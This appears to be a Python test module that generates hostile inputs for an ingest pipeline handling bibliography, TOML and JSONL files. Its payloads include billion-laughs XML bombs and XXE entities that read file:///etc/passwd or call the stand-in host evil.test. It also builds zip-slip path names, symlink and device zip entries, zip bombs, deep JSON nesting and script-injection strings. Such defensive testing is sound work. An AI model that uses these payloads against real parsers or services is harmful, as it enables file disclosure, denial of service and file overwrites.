"""Documents that mean harm as a whole: entities of XML, deep nesting, zips; and files that people write."""

from __future__ import annotations

import copy
import io
import json
import re
import stat
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

from bench.attack.documents import samples, text_of
from bench.attack.payloads import CONTROLS
from ingest.decisions import read_file
from ingest.group import read_group
from ingest.sources import statement_for

_LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_DOCTYPES = {
    "a billion laughs": f"[{_LAUGHS}]",
    "an entity of 100 KB many times": f'[<!ENTITY a9 "{"x" * 100_000}">]',
    "another file": '[<!ENTITY a9 SYSTEM "file:///etc/passwd">]',
    "another file's declarations": '[<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]',
    "another host": '[<!ENTITY a9 SYSTEM "http://evil.test/"><!ENTITY % p SYSTEM "http://evil.test/"> %p;]',
    "a declaration elsewhere": 'SYSTEM "file:///etc/passwd"',
    "a declaration behind a comment": f"[<!-- ]> --> {_LAUGHS}]",
    "a declaration in quotes": f'SYSTEM "a[<b" [{_LAUGHS}]',
}
_TEXT = re.compile(r">[^<>]*\w[^<>]*<")


def documents() -> Iterator[tuple[str, bytes]]:
    """Documents, each with what it is."""
    for sample in samples():
        text = text_of(sample)
        if text.startswith("<"):
            yield from ((f"{what} in {sample.name}", data.encode()) for what, data in _xml(text))
        yield f"{sample.name}, a hundred times", (text * 100).encode()
        yield f"{sample.name} and many zeros", text.encode() + b"\0" * 100_000
    for opened in ('{"results":', "[", '[{"title":', '{"a":\n'):
        yield "nested JSON", (opened * 40_000).encode()
    yield "a long line", b"x" * 5_000_000
    yield "lines without end", b"\n" * 5_000_000
    yield "quotation marks", b'Title,Year\n"' + b'""' * 1_000_000
    yield "braces", b"@article{a, title = " + b"{" * 1_000_000
    yield from _zips()


def _xml(text: str) -> Iterator[tuple[str, str]]:
    body = re.sub(r"^<\?.*?\?>|<!DOCTYPE[^>]*>", "", text).lstrip()
    root = re.match(r"<([\w:]+)[^>]*>", body)
    assert root
    used = _TEXT.sub(f">{'&a9;' * 1000}<", body)
    for what, declared in _DOCTYPES.items():
        yield what, f"<!DOCTYPE {root[1]} {declared}>{used}"
    for encoding in ("utf-7", "utf-16", "ebcdic-cp-us", "x" * 10_000, CONTROLS):
        yield f"the encoding {encoding[:9]!r}", f"<?xml version='1.0' encoding='{encoding}'?>{body}"
    yield "a root in itself", root[0] * 10_000 + body
    yield "many attributes", body.replace(">", " a='x'" * 5000 + ">", 3)


def _zips() -> Iterator[tuple[str, bytes]]:
    paper = b"@article{a, title = {Robots}}"
    names = ["../../out.bib", "/tmp/out.bib", "C:\\out.bib", "..\\..\\out.bib", "out.bib", "x" * 60_000]
    names += [f"{CONTROLS}\u202e\n.bib", "a//b.bib", "..", "<script>owned()</script>"]
    whole = _zip({**dict.fromkeys(names, paper), "d/": b"", "out.bib/": b""})
    yield "a zip of names", whole
    yield "a zip of names, damaged", whole.replace(b"out.bib", b"\x1b[31m\n.", 3)
    yield "a zip of names, cut", whole[: len(whole) // 2]
    yield (
        "a zip with a password",
        whole.replace(b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\x01"),
    )
    yield "a zip in a zip", _zip({"a.zip": whole})
    yield "a zip of links", _zip({"passwd": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777)
    yield "a zip of devices", _zip({"zero.bib": paper}, mode=stat.S_IFCHR | 0o777)
    yield "a zip of zeros", _zip({f"{n}.bib": b"\0" * 20_000_000 for n in range(3)})
    yield "a zip of blanks", _zip({f"{n}.bib": paper + b" " * 20_000_000 for n in range(3)})
    yield "a zip of many files", _zip(dict.fromkeys(map(str, range(5000)), paper))
    yield "a zip of one file many times", _zip({"a.bib": paper + b" " * 1_000_000}, times=1500)


def _zip(files: Mapping[str, bytes], *, mode: int = 0o644, times: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, data, zipfile.ZIP_DEFLATED)
        archive.filelist += [copy.copy(archive.filelist[0]) for _ in range(times - 1)]
    return out.getvalue()


@dataclass(frozen=True, slots=True)
class Reader:
    """What reads a file of this name, and makes of it what people are shown."""

    name: str
    read: Callable[[Path], str]


_GROUP = Reader("group.toml", lambda path: repr(read_group(path)))
_STATED = Reader("sources.toml", lambda path: repr(statement_for(path.with_name("papers.bib"))))
_DECISIONS = Reader("decisions.jsonl", lambda path: " ".join(map(str, read_file(path))))


def by_hand() -> Iterator[tuple[Reader, str]]:
    """Files that people write, each with what reads it."""
    hidden = json.dumps(f"{CONTROLS}\u202e\u200b\n<script>owned()</script>")
    values = ["9" * 5000, "[" * 5000, "{a=" * 5000, "1e999999", "nan", "9999-12-31", "[1]", "''", "\ud800"]
    values += [hidden, *(f"[{json.dumps(name)}]" for name in ("x" * 5000, "a\0b", "~nobody/x", "../" * 2000))]
    for value in values:
        for key in ("sources", "related", "name", "contact", "fill", "people", hidden):
            yield _GROUP, f"{key} = {value}"
        for key in ("name", "orcid", "dblp", hidden):
            yield _GROUP, f"[[people]]\n{key} = {value}"
        for key in ("kind", "subject", "scope", "printed", "retrieved", hidden):
            yield _STATED, f'["papers.bib"]\n{key} = {value}'
        yield _STATED, f"[{value}]"
        for key in ("decision", "day", "works", "titles", "doubts", "name", "forms", "orcid"):
            said = {"decision": '"keep"', "day": '"x"', "works": '[["a"]]'} | {key: value}
            yield _DECISIONS, "{" + ", ".join(f'"{name}": {value}' for name, value in said.items()) + "}"
    for works in ([["a\ud800"]], [[CONTROLS]], []):
        told = {"day": CONTROLS, "name": f"{CONTROLS}\u202eEve\n", "titles": [CONTROLS], "works": works}
        yield from ((_DECISIONS, json.dumps(told | {"decision": one})) for one in ("keep", "member"))
